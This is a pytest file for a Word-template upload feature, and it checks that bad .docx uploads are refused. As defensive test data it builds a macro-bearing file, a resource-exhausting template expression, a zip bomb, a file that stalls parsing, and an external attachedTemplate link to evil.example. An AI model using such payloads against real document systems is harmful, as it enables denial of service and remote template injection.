"""设置 › Word 模板: an upload is looked at before it holds."""

import re
from io import BytesIO
from zipfile import ZipFile

import pytest

from bulletin.settings import Settings
from review.config_files import TEMPLATE_FILE, shipped_body
from review.word_template import NoTemplate, checked, sample_of, text_in, trial_of
from tests.review.conftest import Browser

SHIPPED = shipped_body(TEMPLATE_FILE)


def changed(part: str, old: str, new: str, **more: bytes) -> bytes:
    """The shipped template with something replaced in one part, and parts added."""
    out = BytesIO()
    with ZipFile(BytesIO(SHIPPED)) as given, ZipFile(out, "w") as made:
        for info in given.infolist():
            body = given.read(info.filename)
            if info.filename == part:
                assert old in body.decode()
                body = body.decode().replace(old, new).encode()
            made.writestr(info, body)
        for name, body in more.items():
            made.writestr(name, body)
    return out.getvalue()


RESTYLED = changed("word/styles.xml", "仿宋_GB2312", "楷体_GB2312")


def test_the_shipped_template_prints_everything() -> None:
    text = text_in(sample_of(SHIPPED))
    assert "样张月报" in text and "窗口前的队伍短了一半" in text


@pytest.mark.parametrize(
    ("body", "words"),
    [
        (b"", "没有收到文件"),
        (b"PK no zip", "不是 Word 的 .docx"),
        (changed("word/styles.xml", "仿宋_GB2312", "楷体_GB2312", **{"word/vbaProject.bin": b"x"}), "有宏"),
        (changed("word/document.xml", "{{", "{{ nothing."), "填不进内容"),
        (changed("word/document.xml", "{{ issue.masthead.name }}", "{{ 'x' * 9**9 }}"), "填不进内容"),
        (changed("word/document.xml", "<w:body>", "<w:body>" + "<w:p>" * 300 + "</w:p>" * 300), "填不进内容"),
        (
            changed(
                "word/_rels/document.xml.rels",
                "</Relationships>",
                '<Relationship Id="x" TargetMode="External" Target="https://evil.example/t" '
                'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
                "</Relationships>",
            ),
            "evil.example",
        ),
    ],
)
def test_what_is_no_template_is_refused_in_one_sentence(body: bytes, words: str) -> None:
    with pytest.raises(NoTemplate, match=words):
        sample_of(body)


def test_a_file_that_swells_is_refused() -> None:
    out = BytesIO()
    with ZipFile(out, "w", 8) as made:
        made.writestr("word/document.xml", b"0" * 201_000_000)
    with pytest.raises(NoTemplate, match="展开后太大"):
        checked(out.getvalue())


def test_a_template_without_the_text_is_refused() -> None:
    out = BytesIO()
    with ZipFile(BytesIO(SHIPPED)) as given, ZipFile(out, "w") as made:
        for info in given.infolist():
            body = given.read(info.filename)
            if info.filename == "word/document.xml":
                body = re.sub(rb"<w:body>.*?(<w:sectPr)", rb"<w:body><w:p/>\1", body, count=1, flags=re.DOTALL)
            made.writestr(info, body)
    with pytest.raises(NoTemplate):
        sample_of(out.getvalue())


ENDLESS = changed("word/document.xml", "<w:sectPr", '<w:p w:x="1"/>' * 100_000 + "<w:sectPr")
"""A template on which the filler looks for each paragraph's end through all that follows: hours of work."""


def test_a_template_that_never_ends_is_given_up() -> None:
    with pytest.raises(NoTemplate, match="没有读完"):
        trial_of(ENDLESS, limit_s=0.5)


def upload(editor: Browser, body: bytes) -> str:
    files = {"template": ("模板.docx", body, "application/octet-stream")}
    return str(editor.client.post("/settings/template", data={"token": editor.token}, files=files).text)


def test_an_upload_is_printed_taken_and_taken_back(editor: Browser, settings: Settings) -> None:
    page = upload(editor, RESTYLED)
    trial = re.search(r"sample\?trial=(\d+)", page)
    assert trial and "还没有启用" in page
    assert not (settings.data / "issue.docx").exists()
    with ZipFile(BytesIO(editor.get(f"/settings/template/sample?trial={trial[1]}").content)) as printed:
        assert "楷体_GB2312" in printed.read("word/styles.xml").decode()
    page = editor.post("/settings/template/take", {"trial": trial[1]}).text
    assert (settings.data / "issue.docx").read_bytes() == RESTYLED
    assert editor.get("/settings/template/now").content == RESTYLED
    assert 'action="/settings/template/reset"' in page
    editor.post("/settings/template/reset")
    assert not (settings.data / "issue.docx").exists()
    version = re.search(r"/settings/template/restore/(\d+)", editor.get("/settings/template").text)
    assert version
    editor.post(f"/settings/template/restore/{version[1]}")


def test_a_bad_upload_says_why_and_changes_nothing(editor: Browser, settings: Settings) -> None:
    assert "不是 Word" in upload(editor, b"PK no zip")
    assert "没有收到文件" in editor.post("/settings/template").text
    assert not (settings.data / "issue.docx").exists()
    assert editor.get("/settings/template/sample?trial=1").status_code == 404
    assert editor.post("/settings/template/take", {"trial": "1"}).status_code == 404
